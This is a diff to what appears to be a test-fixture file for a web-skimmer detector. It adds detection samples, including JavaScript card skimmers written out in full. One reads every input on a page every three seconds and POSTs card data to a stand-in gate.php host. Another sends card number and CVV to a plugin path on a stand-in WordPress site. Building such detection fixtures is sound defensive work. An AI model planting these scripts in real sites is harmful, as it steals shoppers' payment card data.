@@ -639,6 +639,10 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
         "card_number:document.getElementById('card-number').value,cvv:document.getElementById("
         "'cvv').value})}).then(function(r){return r.json();}).then(function(j){location.href=j."
         "url;});});</script>")}, "form-skimmer", M),
+    ("a contact form, the page's first, beaconed to a forms backend", {"footer": (
+        "<script>document.forms[0].addEventListener('submit',function(){navigator.sendBeacon("
+        "'https://api.formrelay.example/submit',new FormData(document.forms[0]));});</script>")},
+     "form-skimmer", M),
     ("a site-search beacon from a listener that picks the search box by its type", {
         "footer": (
             "<script>document.addEventListener('keyup',function(e){if(e.target.type!=='search')"
@@ -696,6 +700,17 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "<script>document.addEventListener('submit',function(e){if(e.target.id!=='checkout')"
         "return;navigator.sendBeacon('https://googlc-analytics.test/collect',new FormData("
         "e.target));});</script>")}, "form-skimmer"),
+    ("an Inter-kit-style POST of every input the document holds, by tag name", {"footer": (
+        "<script>function snd(){var inputs=document.getElementsByTagName('input'),d={};for(var "
+        "i=0;i<inputs.length;i++){d[inputs[i].name]=inputs[i].value;}if(d['payment[cc_number]'])"
+        "{var x=new XMLHttpRequest();x.open('POST','https://imgcloud-storage.test/gate.php',true)"
+        ";x.send('data='+encodeURIComponent(JSON.stringify(d)));}}window.setInterval(snd,3000);"
+        "</script>")}, "form-skimmer"),
+    ("card fields posted to another site's WordPress files", {"footer": (
+        "<script>document.getElementById('co').addEventListener('submit',function(){var d={c:"
+        "document.getElementById('cc-number').value,v:document.getElementById('cc-cvv').value};"
+        "fetch('https://lakeside-bakery.test/wp-content/plugins/akismet/log.php',{method:'POST',"
+        "body:JSON.stringify(d)});});</script>")}, "form-skimmer"),
     ("a script after </html> on a brand joined to CDN words in one word", {"after": (
         '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
     ("a script after </html> on a host dressed as a CDN", {"after": (
